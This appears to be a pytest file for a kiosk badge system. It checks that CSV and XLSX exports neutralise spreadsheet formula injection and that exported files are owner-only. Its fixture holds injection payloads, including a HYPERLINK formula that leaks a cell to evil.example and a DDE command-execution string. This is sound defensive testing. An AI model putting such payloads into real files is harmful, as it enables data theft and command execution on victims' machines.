"""Exports are safe to open: no cell a spreadsheet would evaluate, owner-only files. Read back
with csv and openpyxl, the libraries a spreadsheet's importer works like; real SQLite, real files."""

from __future__ import annotations

import csv
import stat
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kiosk.export import export_journal, exports_written
from kiosk.model import Outcome
from kiosk.store import Store
from tests.badge_fixtures import PEOPLE, event_store, service

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "name_en": "+1+cmd|' /C calc'!A0",
    "organization": "-2+3",
    "title": "@SUM(1,2)",
}
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def store(tmp_path: Path):  # type: ignore[no-untyped-def]
    store = event_store(tmp_path / "kiosk.sqlite", PEOPLE)
    with store.transaction() as conn:
        conn.execute(
            "UPDATE delegates SET name = ?, name_en = ?, organization = ?, title = ? WHERE code = ?",
            (*HOSTILE.values(), PEOPLE[0].code),
        )
    assert service(store).check_in(PEOPLE[0].code).outcome is Outcome.ADMITTED
    yield store
    store.close()


def test_csv_export_has_no_cell_a_spreadsheet_would_read_as_a_formula(store: Store, tmp_path: Path) -> None:
    export_journal(store, tmp_path / "j.csv")
    with (tmp_path / "j.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    live = [v for row in rows for v in row.values() if v.startswith(SPREADSHEET_STARTS)]
    assert live == []
    assert [rows[0][k] for k in HOSTILE] == ["'" + v for v in HOSTILE.values()]


def test_xlsx_export_holds_the_same_text_as_text_cells_never_formulas(store: Store, tmp_path: Path) -> None:
    export_journal(store, tmp_path / "j.xlsx")
    sheet = load_workbook(tmp_path / "j.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = {header[i]: c for i, c in enumerate(sheet[2])}
    assert {k: (cells[k].value, cells[k].data_type) for k in HOSTILE} == {
        k: (v, "s") for k, v in HOSTILE.items()
    }
    assert "<f>" not in zipfile.ZipFile(tmp_path / "j.xlsx").read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_are_created_owner_only_and_remembered_for_the_purge(
    store: Store, tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"journal{suffix}"
    export_journal(store, path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert exports_written(store) == [path.resolve()]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temp left


class _Renderer:
    """Stands in for the Qt renderer: this test is about the files, not the drawing."""

    def pdf(self, content: object, layout: object) -> bytes:
        return b"%PDF-1.4 a pass\n"


def test_pass_pdfs_are_owner_only_in_an_owner_only_folder(tmp_path: Path) -> None:
    from kiosk.demo.samples import sample_passes
    from kiosk.printing.backends import PdfFolderPrinter
    from kiosk.printing.layout import load_layout

    printer = PdfFolderPrinter(tmp_path / "passes", _Renderer())  # type: ignore[arg-type]
    content = sample_passes()["d-zh"]
    printer.send("job-1", content, load_layout())
    assert stat.S_IMODE((tmp_path / "passes").stat().st_mode) == 0o700
    assert stat.S_IMODE(printer.path_for("job-1").stat().st_mode) == 0o600
